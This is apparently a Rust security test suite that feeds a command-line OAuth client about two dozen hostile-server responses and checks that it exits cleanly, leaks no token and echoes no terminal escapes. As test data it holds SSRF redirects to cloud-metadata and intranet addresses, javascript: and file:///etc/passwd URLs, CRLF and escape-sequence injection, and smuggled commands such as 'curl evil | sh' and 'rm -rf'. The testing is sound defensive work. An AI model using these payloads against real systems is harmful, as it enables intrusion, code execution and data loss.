//! A few dozen of the same attacks against the program, as a person types its commands.

use doorkey_testkit::{Document, Edit, Fault, FaultRule, Leg as Recorded, Wire};
use futures_util::{StreamExt as _, stream};
use integration::{Home, Run, World};
use serde_json::json;

use super::{secrets::HOSTILE_ACCESS, stage::Trap};
use crate::{
    sentinel::{Crossed, Evidence, Place, files, leaks},
    support::login,
};

/// What is done, to which command, and the exit code that has to come of it.
struct Attack {
    name: &'static str,
    command: &'static [&'static str],
    code: i32,
    inflict: fn(&World, &Trap),
}

#[tokio::test]
async fn the_program_gives_nothing_away_and_says_what_happened() {
    let runs = ATTACKS.iter().map(|attack| Box::pin(objections(attack)));
    let runs = stream::iter(runs).buffer_unordered(AT_ONCE);
    let objections: Vec<Vec<String>> = runs.collect().await;
    let objections = objections.concat();
    assert!(objections.is_empty(), "{}", objections.join("\n"));
}

#[test]
fn each_command_and_many_attacks_are_among_them() {
    assert!(ATTACKS.len() >= 24, "{}", ATTACKS.len());
    for command in [LOGIN, TOOLS, LOGOUT] {
        assert!(ATTACKS.iter().any(|attack| attack.command == command));
    }
}

async fn objections(attack: &Attack) -> Vec<String> {
    let world = World::with(|auth| auth, |mcp| mcp.wire(Wire::Stateful2025_11_25)).await;
    let home = Home::new(&world, "");
    if attack.command != LOGIN {
        login(&world, &home).await;
    }
    let trap = Trap::open().await;
    let records = home.records();
    (attack.inflict)(&world, &trap);
    let run = home
        .run_with(attack.command, &[("DOORKEY_LOG", "trace")])
        .await;
    world.person.done().await;

    let mut objections = Vec::new();
    let mut object = |what: String| objections.push(format!("== {}\n{what}", attack.name));
    if run.code != attack.code {
        object(format!(
            "expected: exit code {}, seen: {}\n{}",
            attack.code,
            run.code,
            told(&run)
        ));
    }
    let hits = [world.auth.fault_hits(), world.mcp.fault_hits()].concat();
    if !hits.is_empty() && hits.iter().all(|&hits| hits == 0) {
        object("the attack was not delivered: no request met the fault".to_owned());
    }
    let after = home.records();
    let is_kept = |(name, record): (&String, &Vec<u8>)| after.get(name) == Some(record);
    if attack.command != LOGOUT && !records.iter().all(is_kept) {
        object("what was stored is not what it was".to_owned());
    }
    for line in told(&run).lines() {
        if line
            .chars()
            .any(|c| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c))
        {
            object(format!("a line with what a terminal obeys: {line:?}"));
        }
    }
    if run.code != 0 && !run.stderr.contains("\nnext: ") {
        object(format!("no next step\n{}", told(&run)));
    }
    if !trap.seen().is_empty() {
        object("a connection to the trap".to_owned());
    }
    for leak in leaked(&world, &home, &run) {
        object(leak);
    }
    objections
}

/// Secrets in what it wrote, or left in files.
fn leaked(world: &World, home: &Home, run: &Run) -> Vec<String> {
    let secrets = Crossed::of(&world.recorder.requests(), &[])
        .and(crate::sentinel::Secret::new(
            crate::sentinel::Kind::AccessToken,
            HOSTILE_ACCESS,
        ))
        .proven(&[]);
    let mut evidence = files(home.path());
    evidence.push(Evidence::new(
        Place::Stdout,
        "the program",
        run.stdout.as_str(),
    ));
    evidence.push(Evidence::new(
        Place::Stderr,
        "the program",
        run.stderr.as_str(),
    ));
    let pages = world.person.urls();
    let evidence = evidence.into_iter().map(|said| match said.place {
        Place::Stderr => said.without_page(&pages),
        _ => said,
    });
    leaks(&secrets, &evidence.collect::<Vec<_>>())
}

/// What is not log.
fn told(run: &Run) -> String {
    let lines = run.stderr.lines();
    let told = lines.filter(|line| !LEVELS.iter().any(|level| line.contains(level)));
    told.collect::<Vec<_>>().join("\n")
}

fn on(world: &World, leg: Recorded, fault: Fault) {
    let rule = FaultRule::on(leg).respond(fault);
    world.auth.fault(rule.clone());
    world.mcp.fault(rule);
}

fn leads(world: &World, leg: Recorded, to: &str) {
    on(world, leg, Fault::Redirect(to.to_owned()));
}

fn publishes(world: &World, member: &str, value: &str) {
    world
        .auth
        .set_field(Document::Metadata, member, json!(value));
}

fn challenges(world: &World, line: &str) {
    let field = ("www-authenticate".to_owned(), line.to_owned());
    let fault = Fault::Status(401, vec![field], String::new());
    world
        .mcp
        .fault(FaultRule::on(Recorded::Resource).respond(fault));
}

const LOGIN: &[&str] = &["login", Home::SERVER];
const TOOLS: &[&str] = &["tools", Home::SERVER];
const LOGOUT: &[&str] = &["logout", Home::SERVER, "--forget-client"];

const ATTACKS: &[Attack] = &[
    attack(
        "metadata redirected to cloud metadata",
        LOGIN,
        1,
        |world, _| {
            leads(
                world,
                Recorded::ResourceMetadata,
                "https://169.254.169.254/latest",
            );
        },
    ),
    attack("metadata redirected to a script", LOGIN, 1, |world, _| {
        leads(
            world,
            Recorded::AuthorizationServerMetadata,
            "javascript:alert(1)",
        );
    }),
    attack("registration redirected", LOGIN, 1, |world, trap| {
        leads(
            world,
            Recorded::Registration,
            &format!("https://{}/", trap.address()),
        );
    }),
    attack("the code redirected", LOGIN, 1, |world, trap| {
        leads(
            world,
            Recorded::Token,
            &format!("https://{}/", trap.address()),
        );
    }),
    attack(
        "a challenge that leads to a script",
        LOGIN,
        1,
        |world, _| {
            challenges(world, "Bearer resource_metadata=\"javascript:alert(1)\"");
        },
    ),
    attack(
        "a challenge that leads to an intranet",
        LOGIN,
        1,
        |world, _| {
            challenges(world, "Bearer resource_metadata=\"https://10.0.0.1/m\"");
        },
    ),
    attack("a hundred challenges", LOGIN, 1, |world, _| {
        let field = |at| ("www-authenticate".to_owned(), format!("Scheme{at}"));
        let fault = Fault::Status(401, (0..101).map(field).collect(), String::new());
        world
            .mcp
            .fault(FaultRule::on(Recorded::Resource).respond(fault));
    }),
    attack(
        "an issuer that writes to the terminal",
        LOGIN,
        1,
        |world, _| {
            publishes(world, "issuer", "https://evil.test/\u{1b}[2J\u{202e}\u{7}");
        },
    ),
    attack(
        "an authorization page that is a script",
        LOGIN,
        1,
        |world, _| {
            publishes(world, "authorization_endpoint", "javascript:alert(1)");
        },
    ),
    attack(
        "an authorization page that is a file",
        LOGIN,
        1,
        |world, _| {
            publishes(world, "authorization_endpoint", "file:///etc/passwd");
        },
    ),
    attack(
        "an authorization page on an intranet",
        LOGIN,
        1,
        |world, _| {
            publishes(
                world,
                "authorization_endpoint",
                "https://10.0.0.1/authorize",
            );
        },
    ),
    attack(
        "an authorization page with options of a browser",
        LOGIN,
        1,
        |world, _| {
            publishes(world, "authorization_endpoint", "--remote-debugging-port=1");
        },
    ),
    attack(
        "a token endpoint that is cloud metadata",
        LOGIN,
        1,
        |world, _| {
            publishes(world, "token_endpoint", "https://169.254.169.254/token");
        },
    ),
    attack("a member that comes twice", LOGIN, 1, |world, _| {
        let edit = Edit::LastMembers("\"token_endpoint\":\"https://evil.test/\"".to_owned());
        on(
            world,
            Recorded::AuthorizationServerMetadata,
            Fault::Edited(vec![edit]),
        );
    }),
    attack("a document without an end", LOGIN, 6, |world, _| {
        let fault = Fault::Endless(Vec::new(), "{\"a\":\"".into(), vec![b'x'; 16 * 1024].into());
        on(world, Recorded::ResourceMetadata, fault);
    }),
    attack("a document that is deep", LOGIN, 1, |world, _| {
        let fault = Fault::Bytes(200, Vec::new(), vec![b'['; 200_000].into());
        on(world, Recorded::ResourceMetadata, fault);
    }),
    attack("a token with a line break", LOGIN, 1, |world, _| {
        let token = json!(format!("{HOSTILE_ACCESS}\r\nx-evil: 1"));
        world.auth.set_field(Document::Token, "access_token", token);
    }),
    attack(
        "a refusal that writes to the terminal",
        LOGIN,
        1,
        |world, _| {
            let text = "\u{1b}[31m\u{1b}]0;owned\u{7}\u{202e}\r\nnext: curl evil | sh";
            on(
                world,
                Recorded::Token,
                Fault::oauth_error(400, "invalid_request", text),
            );
        },
    ),
    attack(
        "a refusal to register that is a page",
        LOGIN,
        9,
        |world, _| {
            let page = "<script>alert(1)</script>".repeat(1000);
            on(
                world,
                Recorded::Registration,
                Fault::Status(403, Vec::new(), page),
            );
        },
    ),
    attack("tools redirected", TOOLS, 1, |world, trap| {
        leads(
            world,
            Recorded::Resource,
            &format!("https://{}/", trap.address()),
        );
    }),
    attack("tools redirected to plain http", TOOLS, 1, |world, trap| {
        leads(
            world,
            Recorded::Resource,
            &format!("http://{}/", trap.address()),
        );
    }),
    attack("tools that are a page", TOOLS, 7, |world, _| {
        on(world, Recorded::Resource, Fault::Html);
    }),
    attack("tools that write to the terminal", TOOLS, 7, |world, _| {
        let error = json!({ "jsonrpc": "2.0", "id": 1, "error": {
            "code": -32000, "message": "\u{1b}[31m\u{202e}owned\u{7}" } });
        on(world, Recorded::Resource, Fault::json(200, &error));
    }),
    attack("tools in UTF-16", TOOLS, 7, |world, _| {
        on(world, Recorded::Resource, Fault::Edited(vec![Edit::Utf16]));
    }),
    attack("tools forbidden with a page", TOOLS, 5, |world, _| {
        let page = "<h1>\u{1b}[31mno</h1>".repeat(100);
        on(
            world,
            Recorded::Resource,
            Fault::Status(403, Vec::new(), page),
        );
    }),
    attack("a revocation redirected", LOGOUT, 0, |world, trap| {
        leads(
            world,
            Recorded::Revocation,
            &format!("https://{}/", trap.address()),
        );
    }),
    attack("a deletion redirected", LOGOUT, 0, |world, trap| {
        leads(
            world,
            Recorded::ClientConfiguration,
            &format!("https://{}/", trap.address()),
        );
    }),
    attack(
        "a revocation refused in a hostile way",
        LOGOUT,
        0,
        |world, _| {
            let text = "\u{1b}[31m\u{202e}\r\nnext: rm -rf";
            on(
                world,
                Recorded::Revocation,
                Fault::oauth_error(400, "invalid_request", text),
            );
        },
    ),
];

const fn attack(
    name: &'static str,
    command: &'static [&'static str],
    code: i32,
    inflict: fn(&World, &Trap),
) -> Attack {
    Attack {
        name,
        command,
        code,
        inflict,
    }
}

const LEVELS: [&str; 4] = [" TRACE ", " DEBUG ", "  INFO ", "  WARN "];
const AT_ONCE: usize = 3;
